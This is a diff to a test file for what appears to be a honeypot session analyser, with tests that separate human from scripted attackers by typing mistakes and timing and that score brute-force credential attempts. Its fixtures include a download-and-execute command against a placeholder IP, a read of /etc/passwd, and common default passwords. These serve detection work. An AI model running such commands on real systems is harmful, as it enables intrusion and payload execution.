@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { actorFeatures } from './actor-features.ts';
 import { loadCatalogue } from './attack/catalogue.ts';
 import { createBoundedCache } from './bounded-cache.ts';
+import { countCredentials, credentialsOf } from './credential-model.ts';
 import { tacticOf } from './judge-session.ts';
 import { gatherShapes, knownShapesOf } from './known-shapes.ts';
 import { lineShape } from './line-shape.ts';
@@ -126,8 +127,48 @@ it('a bounded cache forgets what was asked least recently', () => {
 });
 
 it('mending the line before and looking around are what people do', () => {
-  const person = actorFeatures(['ls', 'cat /etc/pasword', 'cat /etc/password', 'cat /etc/passwd', 'clear']);
-  const script = actorFeatures(['cd /tmp; wget http://192.0.2.1/a; sh a', 'uname -a; id']);
+  const person = actorFeatures({
+    commands: ['ls', 'cat /etc/pasword', 'cat /etc/password', 'cat /etc/passwd', 'clear'],
+  });
+  const script = actorFeatures({ commands: ['cd /tmp; wget http://192.0.2.1/a; sh a', 'uname -a; id'] });
   expect([...person]).toContain('almost:many');
   expect([...script]).toContain('almost:none');
+});
+
+it('a person pauses to read, type and think; a script does not, and nothing is made of times that are not known', () => {
+  const commands = ['id', 'w', 'ls', 'cat x', 'exit'];
+  expect([...actorFeatures({ commands, epochsMs: [0, 9_000, 14_000, 52_000, 60_000] })]).toEqual(
+    expect.arrayContaining(['pause:reading', 'quick:none', 'steady:false']),
+  );
+  expect([...actorFeatures({ commands, epochsMs: [0, 20, 41, 60, 85] })]).toEqual(
+    expect.arrayContaining(['pause:none', 'quick:all', 'steady:true']),
+  );
+  expect([...actorFeatures({ commands })]).toContain('pause:unknown');
+});
+
+describe('credentials', () => {
+  const tried = [
+    { username: 'root', password: '123456', count: 900 },
+    { username: 'admin', password: 'admin', count: 30 },
+    { username: '__proto__', password: 'a:b c', count: 1 },
+  ];
+  const credentials = credentialsOf(countCredentials(tried, 'v'));
+
+  it('are the odder the less often pair, name and password were tried', () => {
+    const oddness = [
+      credentials.oddness('root', '123456'),
+      credentials.oddness('admin', 'admin'),
+      credentials.oddness('__proto__', 'a:b c'),
+      credentials.oddness('root', 'admin'),
+      credentials.oddness('root', 'Xk8!never'),
+      credentials.oddness('nobody-tried', 'Xk8!never'),
+    ];
+    expect(oddness).toEqual([...oddness].sort((a, b) => a - b));
+    expect(new Set(oddness).size).toBe(oddness.length);
+    expect([oddness.at(0), oddness.at(-1)]).toEqual([0, 1]);
+  });
+
+  it('are not to be read from the model', () => {
+    expect(JSON.stringify(countCredentials(tried, 'v'))).not.toMatch(/root|123456|admin/);
+  });
 });
